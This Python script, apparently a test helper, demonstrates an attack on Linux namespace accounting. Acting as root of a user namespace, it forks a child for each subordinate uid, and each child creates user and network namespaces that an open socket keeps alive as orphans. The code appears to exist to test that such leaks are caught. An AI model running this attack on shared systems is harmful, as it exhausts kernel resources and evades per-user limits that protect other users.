#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""A user with many uids of his own (subuid(5)) leaks as somebody else each time.

attack_many.py N: is root of a user namespace with N more uids, and makes a user namespace and an orphan as each
of them. Waits for its uid_map in between: it prints its pid first, and goes on at the first line of stdin.
"""
import ctypes
import json
import os
import signal
import socket
import sys

CLONE_NEWUSER, CLONE_NEWNET, PR_SET_PDEATHSIG = 0x10000000, 0x40000000, 1
libc = ctypes.CDLL(None, use_errno=True)


def check(r, what):
    if r < 0:
        raise OSError(ctypes.get_errno(), what)


def leak(uid):
    """In a child: as @uid, a user namespace, and in it a namespace that only a socket keeps."""
    check(libc.setresgid(0, 0, 0), "setresgid")
    check(libc.setresuid(uid, uid, uid), "setresuid")
    libc.prctl(PR_SET_PDEATHSIG, signal.SIGKILL)  # a change of uid has taken it back
    check(libc.unshare(CLONE_NEWUSER | CLONE_NEWNET), "unshare")
    held = socket.socket(socket.AF_UNIX)
    check(libc.unshare(CLONE_NEWNET), "unshare")
    os.write(1, b"made\n")
    while held:
        signal.pause()


def main(n):
    check(libc.unshare(CLONE_NEWUSER), "unshare")
    print(json.dumps({"pid": os.getpid()}), flush=True)
    sys.stdin.readline()
    check(libc.setresuid(0, 0, 0), "setresuid")
    ready, tell = os.pipe()
    for uid in range(1, n + 1):
        if os.fork() == 0:
            os.dup2(tell, 1)
            leak(uid)
    os.close(tell)
    with os.fdopen(ready) as lines:
        made = sum(1 for _ in zip(range(n), lines))
    print(json.dumps({"made": made}), flush=True)
    sys.stdin.read()
    print(json.dumps({}), flush=True)


main(int(sys.argv[1]))
